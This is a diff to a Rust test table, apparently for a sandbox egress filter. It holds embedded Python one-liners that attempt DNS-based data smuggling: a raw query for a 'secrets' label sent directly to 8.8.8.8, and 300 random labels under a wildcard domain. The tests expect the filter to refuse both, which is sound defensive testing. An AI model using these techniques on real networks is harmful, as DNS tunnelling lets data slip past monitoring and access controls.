@@ -235,7 +235,7 @@ pub(crate) const ATTEMPTS: &[Attempt] = &[
     ),
     notebook(
         "a question to a public resolver",
-        "import socket as s; u=s.socket(2,2); u.settimeout(2); q=b'\\0\\7\\1\\0\\0\\1'+bytes(6)+b'\\7secrets\\7strange\\7example\\0\\0\\1\\0\\1'; u.sendto(q,('8.8.8.8',53)); c=u.recv(999)[3]&15; print('code',c); exit(c)",
+        "import socket as s; u=s.socket(2,2); u.settimeout(2); q=b'\\0\\7\\1\\0\\0\\1'+bytes(6)+b'\\7secrets\\7strange\\7example\\0\\0\\1\\0\\1'; u.sendto(q,('8.8.8.8',53)); exit('answered with code %d' % (u.recv(999)[3]&15))",
         "8.8.8.8",
         Refused("name_not_allowed"),
     ),
@@ -247,7 +247,7 @@ pub(crate) const ATTEMPTS: &[Attempt] = &[
     ),
     notebook(
         "300 labels of a secret under a listed wildcard",
-        "import socket as s, os, sys\nbad=0\nfor i in range(300):\n try: s.getaddrinfo(os.urandom(20).hex()+'.wild.example',443)\n except OSError: bad+=1\nprint(bad,'of 300 refused'); sys.exit(bad>0)",
+        "import socket as s, os, sys\nbad=0\nfor i in range(300):\n try: s.getaddrinfo(os.urandom(20).hex()+'.wild.example',443)\n except OSError: bad+=1\nsys.exit('%d of 300 refused' % bad)",
         NOWHERE,
         Refused("name_budget"),
     ),
